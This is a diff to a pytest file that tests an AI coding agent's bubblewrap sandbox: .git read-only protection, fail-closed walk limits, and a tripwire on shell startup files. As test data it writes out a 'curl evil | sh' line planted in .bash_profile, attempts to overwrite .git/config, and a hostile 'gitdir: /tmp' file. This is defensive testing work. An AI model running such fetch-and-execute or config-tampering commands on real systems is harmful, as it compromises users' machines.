@@ -13,7 +13,7 @@ from pathlib import Path
 
 import pytest
 
-from tui.safety import sandbox
+from tui.safety import masks, sandbox
 from tui.safety.sandbox import (
     SandboxPolicy,
     SandboxUnavailable,
@@ -23,6 +23,7 @@ from tui.safety.sandbox import (
     is_sandbox_denial,
     wrap,
 )
+from tests.fakeopenai import FakeOpenAI
 from tui.tools.process import run_process
 
 WRITE = SandboxPolicy("workspace-write")
@@ -192,7 +193,7 @@ def test_host_socket_is_hidden_even_under_a_writable_root(
         visible = subprocess.run(wrap(argv, WRITE, ws), capture_output=True, text=True, timeout=60)
         assert visible.stdout == "True\n", visible.stderr  # what the mask exists for
 
-        monkeypatch.setattr(sandbox, "_HIDDEN_SOCKETS", (path,))
+        monkeypatch.setattr(masks, "_HIDDEN_SOCKETS", (path,))
         hidden = subprocess.run(wrap(argv, WRITE, ws), capture_output=True, text=True, timeout=60)
         assert hidden.stdout == "False\n", hidden.stderr
     finally:
@@ -313,9 +314,13 @@ def test_effective_writable_roots_per_mode(tmp_path: Path, monkeypatch: pytest.M
     assert SandboxPolicy("danger-full-access").effective_writable_roots(tmp_path) == [Path("/")]
 
 
-def test_read_only_subpaths_protect_git_only_when_present(ws: Path, tmp_path: Path) -> None:
+def test_read_only_subpaths_protect_every_git_under_a_root_and_only_those_present(ws: Path, tmp_path: Path) -> None:
     assert WRITE.read_only_subpaths(ws) == [(ws / ".git").resolve()]
-    assert WRITE.read_only_subpaths(tmp_path) == []
+    # A repository nested below a root is protected too (it used to be only `<root>/.git`).
+    assert WRITE.read_only_subpaths(tmp_path) == [(ws / ".git").resolve()]
+    empty = tmp_path / "empty"
+    empty.mkdir()
+    assert WRITE.read_only_subpaths(empty) == []
 
 
 @needs_bwrap
@@ -327,7 +332,7 @@ def test_wrapped_argv_mounts_git_read_only_after_the_workspace(ws: Path) -> None
     assert argv[argv.index("--cap-drop") + 1] == "ALL"
     bind = argv.index(str(ws.resolve()))
     ro_git = argv.index(str((ws / ".git").resolve()))
-    assert argv[bind - 1] == "--bind" and argv[ro_git - 1] == "--ro-bind" and ro_git > bind
+    assert argv[bind - 1] == "--bind" and argv[ro_git - 1] == "--ro-bind-try" and ro_git > bind
     assert argv[argv.index("--chdir") + 1] == str(ws.resolve())
     assert "--unshare-net" not in wrap(["ls"], SandboxPolicy("read-only", network_access=True), ws)
 
@@ -350,3 +355,89 @@ def test_wrapped_argv_mounts_git_read_only_after_the_workspace(ws: Path) -> None
 )
 def test_sandbox_denial_heuristic(exit_code: int, output: str, denied: bool) -> None:
     assert is_sandbox_denial(exit_code, output) is denied
+
+
+@needs_bwrap
+def test_root_too_big_to_search_for_repositories_is_not_writable(ws: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Past the walk's budget the root fails closed: it is left out of the writable roots (with
+    the reason), so a repository the walk did not reach cannot be written."""
+    from tui.safety import protected
+
+    big = tmp_path / "big"
+    for n in range(30):
+        (big / f"d{n}").mkdir(parents=True)
+    (big / "d29" / "repo" / ".git").mkdir(parents=True)
+    monkeypatch.setattr(protected, "WALK_ENTRY_BUDGET", 10)
+    protected.forget_git_scans()
+    try:
+        policy = SandboxPolicy("workspace-write", writable_roots=(big,))
+        assert big.resolve() not in policy.effective_writable_roots(ws)
+        assert big.resolve() in {root for root, _ in policy.refused_roots(ws)}
+        done = _run(f"echo PWN > {big}/d29/repo/.git/config; echo ok > {big}/x", policy, ws)
+        assert done.returncode != 0 and not (big / "x").exists() and not (big / "d29" / "repo" / ".git" / "config").exists()
+    finally:
+        protected.forget_git_scans()
+
+
+def test_tripwire_leaves_an_in_place_edit_alone_and_moves_a_new_name_aside(tmp_path: Path) -> None:
+    """An editor saving ~/.bashrc from outside (write a new file, rename it over) during a command
+    is not the command's doing (it cannot replace a read-only mount point): it stays. A protected
+    name that did not exist before is moved aside."""
+    from tui.safety.protected import Tripwire
+
+    bashrc, profile = tmp_path / ".bashrc", tmp_path / ".bash_profile"
+    bashrc.write_text("old\n")
+    tripwire = Tripwire([bashrc, profile])
+    (tmp_path / "tmp-save").write_text("new\n")
+    (tmp_path / "tmp-save").rename(bashrc)
+    profile.write_text("curl evil | sh\n")
+    notes = tripwire.check()
+    assert bashrc.read_text() == "new\n" and not profile.exists()
+    assert (tmp_path / ".bash_profile.codeloop-quarantine-1").read_text() == "curl evil | sh\n"
+    assert len(notes) == 1 and ".bash_profile is protected and appeared" in notes[0]
+
+
+def test_bwrap_without_user_namespaces_still_sandboxes_without_one(outside: Path, ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Where bwrap cannot add a user namespace (Docker's default seccomp profile, some AppArmor
+    setups), the trial run without one decides: sandboxes still run, capabilities still dropped,
+    only the bounding set's emptying is lost."""
+    fake = outside / "bwrap"  # outside the writable roots, or wrap refuses it
+    fake.write_text('#!/bin/sh\nfor a in "$@"; do [ "$a" = --unshare-user ] && { echo "bwrap: No permissions to create new namespace" >&2; exit 1; }; done\nexit 0\n')
+    fake.chmod(0o755)
+    monkeypatch.setattr(sandbox, "find_bwrap", lambda: fake)
+    assert bwrap_problem() is None
+    argv = wrap(["ls"], WRITE, ws)
+    assert "--unshare-user" not in argv and argv[argv.index("--cap-drop") + 1] == "ALL"
+
+
+def test_a_planted_git_file_cannot_freeze_a_writable_root(ws: Path) -> None:
+    """A hostile repository's `sub/.git` file saying `gitdir: /tmp` (to have the sandbox mount
+    /tmp read-only) protects only itself: the target is not a folder git would accept."""
+    (ws / "sub").mkdir()
+    (ws / "sub" / ".git").write_text("gitdir: /tmp\n")
+    paths = WRITE.read_only_subpaths(ws)
+    assert (ws / "sub" / ".git").resolve() in paths and Path("/tmp").resolve() not in paths
+
+
+async def test_a_session_folder_too_big_to_search_is_read_only_and_says_why(fake_openai: FakeOpenAI, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Fail closed past the walk's bound, through the engine: the session's folder (more entries
+    than the lowered budget) is not writable, and the failing command's output says why."""
+    from tests.engine_support import make_session, outputs_by_call, run_turn, shell_call
+    from tests.fakeopenai import events as fe
+    from tui.safety import protected
+
+    big = tmp_path / "big"
+    for n in range(30):
+        (big / f"d{n}").mkdir(parents=True)
+    (big / "d29" / ".git").mkdir()
+    monkeypatch.setattr(protected, "WALK_ENTRY_BUDGET", 10)
+    protected.forget_git_scans()
+    fake_openai.queue_response(fe.turn(shell_call("c1", ["sh", "-c", "echo PWN > d29/.git/config; echo x > new.txt"])))
+    fake_openai.queue_response(fe.turn(fe.message_item("done")))
+    try:
+        await run_turn(make_session(fake_openai, big, policy="never", sandbox="workspace-write"), "go")
+    finally:
+        protected.forget_git_scans()
+    out = outputs_by_call(fake_openai.responses_bodies()[1])["c1"]
+    assert not (big / "new.txt").exists() and not (big / "d29" / ".git" / "config").exists()
+    assert f"{big.resolve()} holds more than 10 entries" in out and "not writable in the sandbox" in out
